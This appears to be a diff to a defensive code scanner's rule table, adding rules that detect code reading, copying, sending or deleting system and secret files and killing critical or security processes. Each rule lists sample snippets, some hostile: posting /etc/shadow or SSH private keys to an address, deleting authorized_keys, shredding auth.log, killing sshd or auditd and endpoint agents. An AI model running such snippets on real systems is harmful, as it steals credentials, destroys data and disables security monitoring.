@@ -22,6 +22,8 @@ export interface CodeRow {
   readonly identity?: boolean;
   /** Safeguards: when one of these objects is present the row does not fire (a sanitised name, a confined path). */
   readonly unless?: readonly CodeObject[];
+  /** The object's word must stand within this many characters of a word of the row's first operation. */
+  readonly near?: number;
   readonly keywords: readonly string[];
   readonly examples: { readonly flag: readonly string[]; readonly pass: readonly string[] };
 }
@@ -110,22 +112,25 @@ export const CODE_ROWS: readonly CodeRow[] = [
   },
   {
     id: 'G55', name: 'A protected system or secret file the code opens is sent over the network', primitive: 'EXFILTRATION', score: 7,
-    ops: ['send'], objects: ['secretFile'], dests: [],
+    ops: ['send'], objects: ['secretFile', 'systemFile', 'systemInfo'], dests: [],
     keywords: ['/', '~'],
     examples: {
       flag: ["import urllib.request\nwith open('/etc/shadow', 'rb') as f:\n    body = f.read()\nurllib.request.urlopen(urllib.request.Request('http://127.0.0.1:5758/submit', data=body))",
-        "const fs = require('fs');\nfetch('http://10.0.0.9:8080/in', { method: 'POST', body: fs.readFileSync('/root/.ssh/id_rsa') });"],
+        "const fs = require('fs');\nfetch('http://10.0.0.9:8080/in', { method: 'POST', body: fs.readFileSync('/root/.ssh/id_rsa') });",
+        "with open('/etc/security/group.conf', 'rb') as f:\n    body = f.read()\nurllib.request.urlopen(urllib.request.Request('http://127.0.0.1:5758/submit', data=body))",
+        "#!/bin/bash\nbody='/proc/cpuinfo'\ncurl -s --data-binary @\"$body\" http://127.0.0.1:5758/submit"],
       pass: ["with open('/etc/os-release') as f:\n    info = f.read()\nrequests.post('http://127.0.0.1:9000/report', json={'os': info})",
-        "requests.post(URL, files={'f': open('reports/q3.pdf', 'rb')})"],
+        "requests.post(URL, files={'f': open('reports/q3.pdf', 'rb')})", "cfg = yaml.safe_load(open('/etc/myapp/config.yaml'))\nrequests.post(cfg['api'], json={'ok': True})",
+        "requests.get('https://api.example.net/v1', verify='/etc/ssl/certs/ca-certificates.crt')"],
     },
   },
   {
     id: 'G56', name: 'A system file or a secret file deleted by code', primitive: 'DESTRUCTION', score: 8,
-    ops: ['destroy'], objects: ['systemPath', 'secretFile'], dests: [],
-    keywords: ['remove', 'unlink', 'rmtree', 'delete', 'rm '],
+    ops: ['destroy'], objects: ['systemPath', 'secretFile', 'systemFile'], dests: [],
+    keywords: ['remove', 'unlink', 'rmtree', 'delete', 'rm ', 'shred'],
     examples: {
-      flag: ["from pathlib import Path\nPath('/etc/group').unlink()", "import os\nos.remove('/root/.ssh/authorized_keys')", "import shutil\nshutil.rmtree('/usr/lib/python3/dist-packages')"],
-      pass: ["import os\nos.remove('/tmp/build-cache.json')", "import shutil\nshutil.rmtree('./build')", "os.remove(os.path.join(tmpdir, 'etc.txt'))"],
+      flag: ["from pathlib import Path\nPath('/etc/group').unlink()", "import os\nos.remove('/root/.ssh/authorized_keys')", "import shutil\nshutil.rmtree('/usr/lib/python3/dist-packages')", '#!/bin/bash\nrm -f /etc/security/limits.conf', '#!/bin/bash\nshred -u /var/log/auth.log'],
+      pass: ["import os\nos.remove('/tmp/build-cache.json')", "import shutil\nshutil.rmtree('./build')", "os.remove(os.path.join(tmpdir, 'etc.txt'))", '#!/bin/bash\nrm -f /var/log/myapp/old.log', '#!/bin/bash\n# perform cleanup\nrm -rf ./build /tmp/cache'],
     },
   },
   {
@@ -135,6 +140,60 @@ export const CODE_ROWS: readonly CodeRow[] = [
     examples: {
       flag: ["with open('/root/.bashrc', 'a') as f:\n    f.write('alias sudo=\"rm -rf /var/*\"\\n')", "shutil.copy('/etc/group', '/usr/copy_file')", "open('/usr/bin/python3', 'wb').write(payload)"],
       pass: ["with open('/tmp/out.txt', 'w') as f:\n    f.write(report)", "shutil.copy('config.yaml', 'dist/config.yaml')", "job = cron.new(command='/usr/bin/python3 /opt/app/report.py')\ncron.write()", "with open(os.path.expanduser('~/notes.md'), 'a') as f:\n    f.write(line)"],
+    },
+  },
+  {
+    id: 'G62', name: 'Code reads a system account, authentication, login-record or kernel file', primitive: 'EXFILTRATION', score: 4,
+    ops: [], objects: ['systemFile'], dests: [], unless: ['secretFile'],
+    keywords: ['/etc/', '/proc/', '/sys/', '/var/log/', '/root/', '/boot/', '/dev/', '/usr/share/base-passwd', '/run/utmp', 'system32'],
+    examples: {
+      flag: [
+        "with open('/etc/security/limits.conf') as f:\n    print(f.read())", '#!/bin/bash\ncat /etc/ssh/sshd_config', "print(open('/proc/kallsyms').read()[:2000])",
+        "const rows = fs.readFileSync('/var/log/auth.log', 'utf8').split('\\n');", "$h = file_get_contents('/root/.profile'); echo $h;", 'data, _ := os.ReadFile("/etc/login.defs")',
+      ],
+      pass: [
+        "with open('/etc/os-release') as f:\n    print(f.read())", "cfg = yaml.safe_load(open('/etc/myapp/config.yaml'))", "requests.get(url, verify='/etc/ssl/certs/ca-certificates.crt')",
+        "with open('/proc/meminfo') as f:\n    total = int(f.readline().split()[1])", "with open('./etc/passwd.sample') as f:\n    print(f.read())",
+      ],
+    },
+  },
+  {
+    id: 'G63', name: 'A system or secret file copied elsewhere by code', primitive: 'EXFILTRATION', score: 4,
+    ops: ['copy'], objects: ['systemFile', 'systemInfo'], dests: [], unless: ['secretFile'],
+    keywords: ['copy', 'cp ', 'rsync', 'scp ', 'install -m'],
+    examples: {
+      flag: ["import shutil\nshutil.copy('/etc/host.conf', '/tmp/copy_file')", '#!/bin/bash\ncp /etc/apt/sources.list /usr/copy_file', "fs.copyFileSync('/etc/ssh/ssh_config', './out/ssh_config')"],
+      pass: ["shutil.copy('/etc/myapp/app.conf', '/etc/myapp/app.conf.bak')", "shutil.copy('config.yaml', 'dist/config.yaml')", "shutil.copy('/etc/localtime', rootfs + '/etc/localtime')"],
+    },
+  },
+  {
+    id: 'G64', name: "Code lists system configuration, root's or every user's home, or a key store", primitive: 'EXFILTRATION', score: 3,
+    ops: ['list'], objects: ['sensitiveDir'], dests: [],
+    keywords: ['/etc', '/root', '/home', '/boot', '/users', '~/.', '/var/spool/cron', '/var/lib/', 'c:\\users', 'c:/users'],
+    examples: {
+      flag: ["import os\nfor name in os.listdir('/root'):\n    print(name)", "import glob\nfor f in glob.glob('/etc/*'):\n    print(f)", '#!/bin/bash\nls -la /root/', "fs.readdirSync(path.join(os.homedir(), '.ssh')).forEach(f => console.log(f)); const d = fs.readdirSync('~/.ssh');"],
+      pass: ["for name in os.listdir('/etc/myapp/conf.d'):\n    load(name)", "print(os.listdir('./etc'))", "for f in glob.glob('/srv/app/uploads/*'):\n    print(f)", "for pid in os.listdir('/proc'):\n    print(pid)"],
+    },
+  },
+  {
+    id: 'G65', name: 'A system service or every process killed by code', primitive: 'DESTRUCTION', score: 5,
+    ops: ['kill'], objects: ['criticalProc'], dests: [], near: 160,
+    keywords: ['kill', 'pkill', 'killall', 'terminate', 'taskkill', 'stop-process', 'sigkill'],
+    examples: {
+      flag: [
+        "import psutil\nfor p in psutil.process_iter(['name']):\n    if p.info['name'] == 'sshd':\n        p.kill()", "subprocess.run(['pkill', '-9', 'dockerd'])", 'import os\nos.kill(1, 9)',
+        "Get-Process -Name 'lsass' | Stop-Process -Force", "exec('killall -9 mysqld')",
+      ],
+      pass: ["proc = subprocess.Popen(['python', 'worker.py'])\nproc.wait(timeout=30)\nproc.kill()", "os.kill(os.getpid(), signal.SIGTERM)", "for p in psutil.process_iter(['name']):\n    print(p.info['name'] == 'sshd')"],
+    },
+  },
+  {
+    id: 'G66', name: 'An audit, logging or endpoint-protection agent killed by code', primitive: 'MANIPULATION', score: 7,
+    ops: ['kill'], objects: ['securityAgent'], dests: [], near: 160,
+    keywords: ['kill', 'pkill', 'killall', 'terminate', 'taskkill', 'stop-process', 'sigkill'],
+    examples: {
+      flag: ["subprocess.run(['pkill', '-9', 'auditd'])", "for p in psutil.process_iter(['name']):\n    if p.info['name'] in ('MsMpEng.exe', 'falcon-sensor'):\n        p.kill()", "exec('taskkill /F /IM Sysmon64.exe')"],
+      pass: ["subprocess.run(['systemctl', 'status', 'auditd'])", "# restart the sensor after the upgrade\nsubprocess.run(['systemctl', 'restart', 'falcon-sensor'])"],
     },
   },
   {
@@ -381,11 +440,29 @@ export const CODE_ROWS: readonly CodeRow[] = [
   },
 ];
 
-/** Does the frame satisfy the row? Returns the finding's detail, or ''. */
-export function rowDetail(f: CodeFrame, row: CodeRow): string {
+/** Some occurrence of `a` stands within `span` characters of some occurrence of `b` (first few of each tried). */
+function within(lower: string, a: string, bs: readonly string[], span: number): boolean {
+  let i = lower.indexOf(a);
+  for (let k = 0; i !== -1 && k < 6; k++) {
+    const lo = Math.max(0, i - span);
+    const around = lower.slice(lo, i + a.length + span);
+    if (bs.some((b) => around.includes(b))) return true;
+    i = lower.indexOf(a, i + a.length);
+  }
+  return false;
+}
+
+/** Does the frame satisfy the row? Returns the finding's detail, or ''. `lower` is the code (for `near`). */
+export function rowDetail(f: CodeFrame, row: CodeRow, lower = ''): string {
   for (const op of row.ops) if (!f.ops.has(op)) return '';
   let object = '';
-  for (const o of row.objects) { const w = f.objects.get(o); if (w !== undefined) { object = `${o} (${w.trim()})`; break; } }
+  for (const o of row.objects) {
+    const w = f.objects.get(o);
+    if (w === undefined) continue;
+    if (row.near !== undefined && !within(lower, w, f.opWords.get(row.ops[0]!) ?? [], row.near)) continue;
+    object = `${o} (${w.trim()})`;
+    break;
+  }
   if (row.objects.length > 0 && object === '') return '';
   for (const o of row.also ?? []) if (!f.objects.has(o)) return '';
   let dest = '';
